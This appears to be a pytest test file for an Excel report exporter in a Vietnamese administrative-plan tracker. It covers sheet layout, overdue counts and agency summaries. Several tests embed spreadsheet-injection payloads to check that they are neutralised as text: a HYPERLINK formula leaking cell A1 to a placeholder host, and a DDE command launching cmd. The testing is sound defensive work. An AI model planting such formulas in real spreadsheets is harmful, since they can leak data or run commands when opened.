"""The Excel report read back with openpyxl: the plan's appendix table with today's state, and
the per-agency summary, checked against the database."""

from __future__ import annotations

from datetime import date, datetime, timedelta
from io import BytesIO

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from i18n import gettext, use_language
from models import Evidence, Milestone, MilestoneStatus, ProgressReport, Role, Task
from planning.intent import Status
from services import reports, xlsx_report
from services.xlsx_report import AGENCY_COLUMNS, AGENCY_SHEET, TASK_COLUMNS, Scope, sheet_name
from tests.world import VN, World

APRIL_14 = datetime(2026, 4, 14, 9, 0, tzinfo=VN)


@pytest.fixture
def world(sessions, tmp_path) -> World:
    return World.build(sessions, tmp_path, now=APRIL_14)


def build(world: World, now: datetime = APRIL_14):  # type: ignore[no-untyped-def]
    with world.app.sessions() as session, use_language("vi"):
        content = xlsx_report.build_report(session, now)
    return load_workbook(BytesIO(content))


def rows_by_number(sheet) -> dict[str, tuple]:  # type: ignore[no-untyped-def]
    return {str(r[0]): r for r in sheet.iter_rows(min_row=2, values_only=True)}


def test_one_sheet_per_plan_named_by_its_number_and_a_summary_sheet(world):
    book = build(world)
    with use_language("vi"):
        summary = gettext(AGENCY_SHEET)
    assert book.sheetnames == ["15-KH-UBND", sheet_name(summary, ["15-KH-UBND"])]
    plan = book["15-KH-UBND"]
    with use_language("vi"):
        assert [c.value for c in plan[1]] == [gettext(m) for m, _ in TASK_COLUMNS]
        assert [c.value for c in book.worksheets[1][1]] == [gettext(m) for m, _ in AGENCY_COLUMNS]
    assert plan.freeze_panes == "A2"
    assert plan.column_dimensions["B"].width >= 40
    assert plan["B3"].alignment.wrap_text


def test_the_sheet_follows_the_appendix_with_section_rows(world):
    sheet = build(world)["15-KH-UBND"]
    first = [r[:2] for r in sheet.iter_rows(min_row=2, max_row=6, values_only=True)]
    assert first == [
        ("I", "Công tác chỉ đạo, điều hành"),
        ("1", "Xây dựng Kế hoạch kiểm tra công tác cải cách hành chính năm 2026"),
        ("2", "Tổ chức kiểm tra công tác cải cách hành chính tại các cơ quan, địa phương"),
        ("3", "Báo cáo kết quả thực hiện Kế hoạch cải cách hành chính định kỳ"),
        ("II", "Cải cách thể chế"),
    ]
    assert sheet["A2"].font.b
    numbers = [r[0] for r in sheet.iter_rows(min_row=2, values_only=True)]
    assert numbers.count("I") == numbers.count("II") == numbers.count("IV") == 1
    assert len(numbers) == 11 + 4  # tasks and section rows


def test_task_rows_carry_todays_state_from_the_database(world):
    task_id = world.task_id("II|2")
    with world.app.sessions.begin() as session:
        for name in ("bien-ban.pdf", "anh.jpg"):
            session.add(
                Evidence(
                    task_id=task_id,
                    sha256=name.ljust(64, "0"),
                    size=10,
                    mime_type="application/pdf",
                    original_name=name,
                    stored_path=name,
                    created_at=APRIL_14,
                )
            )
        # 23:30 UTC on 09/04 is already 10/04 in Việt Nam
        session.add(
            ProgressReport(
                task_id=task_id,
                kind="progress",
                percent=40,
                created_at=datetime.fromisoformat("2026-04-09T23:30:00+00:00"),
            )
        )
        task = session.get(Task, task_id)
        assert task is not None
        task.progress_percent = 40
    sheet = build(world)["15-KH-UBND"]
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    ii_2 = next(r for r in rows if r[1] == "Kiểm tra văn bản QPPL sau khi ban hành")
    number, _title, product, lead, support, deadline, status, pct, updated, files, late = ii_2
    assert (number, product, lead, support, deadline) == (
        "2",
        "Kết luận kiểm tra",
        "Sở Tư pháp",
        "UBND cấp xã",
        "Thường xuyên",
    )
    with use_language("vi"):
        assert status == gettext("overdue")[:1].upper() + gettext("overdue")[1:]
    assert (pct, files, late) == (40, 2, 14)  # Q1 item due 31/03, now 14/04
    assert updated.date() == date(2026, 4, 10)
    iv_3 = next(r for r in rows if str(r[1]).startswith("Hướng dẫn thực hiện chỉ tiêu"))
    assert iv_3[8] is None and iv_3[9] == 0 and iv_3[10] is None  # never updated, undated


def test_days_overdue_count_from_the_earliest_missed_date(world):
    rows = list(build(world)["15-KH-UBND"].iter_rows(min_row=2, values_only=True))
    iv_2 = next(r for r in rows if str(r[1]).startswith("Tuyên truyền"))
    assert iv_2[10] == (date(2026, 4, 14) - date(2026, 1, 31)).days
    iii_1 = next(r for r in rows if str(r[1]).startswith("Công bố, công khai"))
    assert "&" in iii_1[1]  # a cell holds the text as written, not HTML
    assert iii_1[10] is None


def test_the_summary_sheet_counts_like_the_queries(world):
    with world.app.sessions.begin() as session:
        first = session.scalar(
            select(Milestone).join(Task).where(Task.slot == "IV|2").order_by(Milestone.due)
        )
        first.completed_on = date(2026, 1, 20)
    book = build(world)
    summary = book.worksheets[-1]
    lines = {r[0]: r[1:] for r in summary.iter_rows(min_row=2, values_only=True)}
    with world.app.sessions() as session:
        expected = {
            s.name: s.counts for s in reports.snapshot(session, APRIL_14.date()).by_agency()
        }
    assert set(lines) == set(expected)
    vh = lines["Sở Văn hóa, Thể thao và Du lịch"]
    # done on time, done late, in progress, overdue, undated, total, on-time rate
    assert vh[:6] == (1, 0, 9, 2, 0, 12)
    assert vh[6] == pytest.approx(1 / 3)
    assert lines["Sở Nội vụ"][4] == 1  # IV.3 has no date
    assert lines["Văn phòng UBND tỉnh"][6] is None  # nothing due yet: no rate
    counts = expected["Sở Nội vụ"]
    assert lines["Sở Nội vụ"][:5] == tuple(counts[s] for s in xlsx_report.STATUS_ORDER)
    assert summary.cell(row=2, column=len(AGENCY_COLUMNS)).number_format == "0.0%"


def test_headers_follow_the_language_of_whoever_asks(world):
    with world.app.sessions() as session, use_language("en"):
        book = load_workbook(BytesIO(xlsx_report.build_report(session, APRIL_14)))
    assert book.worksheets[0]["B1"].value == "Task"
    assert book.sheetnames[-1] == "By agency"


@pytest.mark.parametrize(
    ("wanted", "taken", "name"),
    [
        ("15/KH-UBND", [], "15-KH-UBND"),
        ("Kế hoạch [2026]: CCHC?*", [], "Kế hoạch -2026-- CCHC--"),
        ("'Trích'", [], "Trích"),
        ("x" * 40, [], "x" * 31),
        ("15/KH-UBND", ["15-KH-UBND"], "15-KH-UBND (2)"),
        ("x" * 40, ["x" * 31], "x" * 27 + " (2)"),
        ("", [], "Sheet"),
    ],
)
def test_sheet_names_are_valid_for_excel(wanted, taken, name):
    got = sheet_name(wanted, taken)
    assert got == name
    assert len(got) <= 31 and not set("[]:*?/\\") & set(got)


def test_the_report_as_of_a_later_day_moves_on(world):
    later = build(world, APRIL_14 + timedelta(days=100))
    rows = list(later["15-KH-UBND"].iter_rows(min_row=2, values_only=True))
    iii_1 = next(r for r in rows if str(r[1]).startswith("Công bố, công khai"))
    assert iii_1[10] == (date(2026, 7, 23) - date(2026, 6, 30)).days
    with use_language("vi"):
        assert iii_1[6].lower() == gettext("overdue").lower()


# A plan whose cells start as a spreadsheet formula would: what the plan says is what the
# coordinator's workbook shows, and nothing in it runs when the file is opened.
HYPERLINK = '=HYPERLINK("http://example.invalid/?q="&A1,"Xem chi tiết")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


def _formulas(content: bytes) -> list[str]:
    import zipfile

    with zipfile.ZipFile(BytesIO(content)) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        return [n for n in sheets if b"<f>" in package.read(n) or b"<f " in package.read(n)]


def test_cells_of_an_imported_plan_that_look_like_formulas_stay_text(sessions, tmp_path):

    from bot.demo import SAMPLE_PLAN
    from models import OfficialRole

    world = World.build(sessions, tmp_path, now=APRIL_14)
    text = SAMPLE_PLAN.read_text(encoding="utf-8")
    for old, new in (
        ("Xây dựng Kế hoạch kiểm tra công tác cải cách hành chính năm 2026", HYPERLINK),
        ("Kết luận kiểm tra", DDE),  # a deliverable
        ("Số: 15/KH-UBND", "Số: 16/KH-UBND"),
    ):
        assert old in text
        text = text.replace(old, new, 1)
    world.import_text(text, "ke-hoach-16.txt")
    world.register("c1", "Sở Nội vụ", OfficialRole.COORDINATOR)

    # The spreadsheet first; a coordinator is then offered the Word report.
    reply, *_offer = world.send("c1", command="xuatbaocao")
    assert reply.document is not None
    content = reply.document.content
    assert _formulas(content) == []
    sheet = load_workbook(BytesIO(content))["16-KH-UBND"]
    cells = {c.value: c for row in sheet.iter_rows(min_row=2) for c in row}
    for written in (HYPERLINK, DDE):
        assert cells[written].data_type == "s" and cells[written].quotePrefix
    assert not cells["Sở Nội vụ"].quotePrefix  # ordinary text stays as it was


@pytest.mark.parametrize(
    "written",
    [HYPERLINK, "+84 912 345 678", "-2+3", DDE, "\t=1+1", "\r=1+1", "=1+1"],
)
def test_every_cell_that_starts_like_a_formula_is_written_as_text(written):
    line = xlsx_report.TaskLine(
        task_id=1,
        number=written,
        title=written,
        product=written,
        leads=written,
        supports=written,
        deadline=written,
        status=MilestoneStatus.IN_PROGRESS,
        progress=0,
        last_update=None,
        evidence=0,
        days_overdue=None,
    )
    section = xlsx_report.SectionLine(written, written)
    agencies = [xlsx_report.AgencyLine(written, reports.StatusCounts())]
    with use_language("vi"):
        content = xlsx_report.render([xlsx_report.PlanSheet("15/KH", [section, line])], agencies)
    assert _formulas(content) == []
    book = load_workbook(BytesIO(content))
    texts = [c for sheet in book for row in sheet.iter_rows(min_row=2) for c in row]
    assert sum(c.value == written for c in texts) == 2 + 6 + 1
    assert all(c.data_type == "s" and c.quotePrefix for c in texts if c.value == written)


@pytest.mark.parametrize("status", [Status.OVERDUE, Status.DONE, Status.OPEN, Status.UNDATED])
def test_a_report_of_the_tasks_that_stand_one_way_holds_those_and_no_other(world, status):
    """ "xuất excel các việc quá hạn": the rows are the tasks whose milestones stand so,
    judged from the database on its own."""
    today = APRIL_14.date()
    with world.app.sessions() as session, use_language("vi"):
        tasks = session.scalars(select(Task)).all()
        wanted = set()
        for task in tasks:
            milestones = task.milestones
            done = bool(milestones) and all(m.completed_on for m in milestones)
            stands = {
                Status.OVERDUE: any(
                    m.completed_on is None and m.due and m.due < today for m in milestones
                ),
                Status.DONE: done,
                Status.OPEN: not done,
                Status.UNDATED: not any(m.due for m in milestones),
            }[status]
            if stands:
                wanted.add(task.title)
        content = xlsx_report.build_report(session, APRIL_14, status=status)
    sheet = load_workbook(BytesIO(content))["15-KH-UBND"]
    titles = {
        r[1] for r in sheet.iter_rows(min_row=2, values_only=True) if r[1] and r[2] is not None
    }
    assert titles == wanted
    if status is Status.OVERDUE:
        assert wanted  # the sample plan has overdue tasks on 14 April


def test_a_report_of_one_section_or_of_the_tasks_an_agency_leads(world):
    """ "xuất excel các nhiệm vụ phần II", "xuất excel việc stp chủ trì": those rows only,
    judged from the database on its own; the summary sheet counts the section's."""
    with world.app.sessions() as session, use_language("vi"):
        tasks = session.scalars(select(Task)).all()
        in_section = {t.title for t in tasks if t.section == "II"}
        agency = next(a.agency for t in tasks for a in t.assignments if a.role == Role.LEAD)
        led = {
            t.title
            for t in tasks
            if any(a.agency_id == agency.id and a.role == Role.LEAD for a in t.assignments)
        }
        by_section = xlsx_report.build_report(session, APRIL_14, scope=Scope(section="II"))
        by_agency = xlsx_report.build_report(
            session, APRIL_14, scope=Scope(agencies=frozenset({agency.id}), role=Role.LEAD)
        )
        snap = reports.snapshot(session, APRIL_14.date()).where(section="II")
        section_counts = {s.name for s in snap.by_agency()}
    for content, wanted in ((by_section, in_section), (by_agency, led)):
        book = load_workbook(BytesIO(content))
        titles = {
            r[1]
            for r in book["15-KH-UBND"].iter_rows(min_row=2, values_only=True)
            if r[1] and r[2] is not None
        }
        assert titles == wanted
    assert 0 < len(in_section) < len(tasks) and 0 < len(led) < len(tasks) and section_counts
    summary = load_workbook(BytesIO(by_section)).worksheets[1]
    assert {r[0] for r in summary.iter_rows(min_row=2, values_only=True)} == section_counts
